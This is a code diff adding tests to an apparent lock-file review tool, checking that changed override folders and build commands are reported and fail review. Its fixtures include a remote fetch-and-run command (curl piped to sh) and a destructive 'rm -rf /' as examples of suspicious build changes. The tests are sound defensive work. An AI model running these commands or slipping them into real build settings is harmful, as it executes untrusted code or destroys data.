@@ -8,7 +8,7 @@ import { formatDiffMarkdown } from '../render/markdown/page.js'
 import { formatDiffText } from '../render/text.js'
 import { diffLocks, isEmptyDiff } from './diff.js'
 import { type OverrideFiles, overrideChanges } from './overrides.js'
-import type { LockDiff } from './types.js'
+import type { LockDiff, ReviewedManifest } from './types.js'
 
 const quiet = componentBytes({ imports: ['wasi:io/streams@0.2.3'], exports: ['acme:local/api@1.0.0'] })
 const loud = componentBytes({ imports: ['wasi:sockets/tcp@0.2.3'], exports: ['acme:local/api@1.0.0'] })
@@ -77,5 +77,38 @@ describe('a file that overrides a package', () => {
     const lines = formatDiffText(diff).split('\n')
     expect(lines.map((line) => escapeText(line, line.length))).toEqual(lines)
     expect(formatDiffMarkdown(diff)).not.toContain('\n## safe')
+  })
+})
+
+const folder = (build: string): OverrideFiles =>
+  new Map([['acme:local', { path: '../local', bytes: undefined, build }]])
+
+describe('a folder that overrides a package', () => {
+  it('is reported with what builds it, if that is new or changed', () => {
+    expect(overrideChanges(folder('make'), folder('make'))).toEqual([])
+    const diff = reviewed(new Map(), folder('cargo build'))
+    expect(formatDiffText(diff)).toContain(
+      '! overrides["acme:local"]: ../local is a folder that is built: nothing -> cargo build',
+    )
+    const changed = reviewed(folder('make'), folder('curl example.com | sh'))
+    expect(formatDiffText(changed)).toContain('../local is built in another way: make -> curl example.com | sh')
+    expect(formatDiffMarkdown(changed)).toContain('is built in another way')
+    expect(failures(changed, ['overrides'])).toEqual([
+      { rule: 'overrides', text: '../local, which overrides acme:local, is built by curl example.com | sh' },
+    ])
+  })
+})
+
+const builtBy = (command: string): ReviewedManifest => ({
+  document: { build: { command, output: 'x.wasm' } },
+  permissions: new Map(),
+})
+
+describe('what builds the package itself', () => {
+  it('is reported if it changes', () => {
+    const diff = diffLocks(lock, lock, { manifests: { before: builtBy('make'), after: builtBy('rm -rf /') } })
+    expect(formatDiffText(diff)).toMatch(/^1 change of what builds this package\./)
+    expect(formatDiffText(diff)).toContain('! build.command: make -> rm -rf /')
+    expect(failures(diff, ['overrides'])).toHaveLength(1)
   })
 })
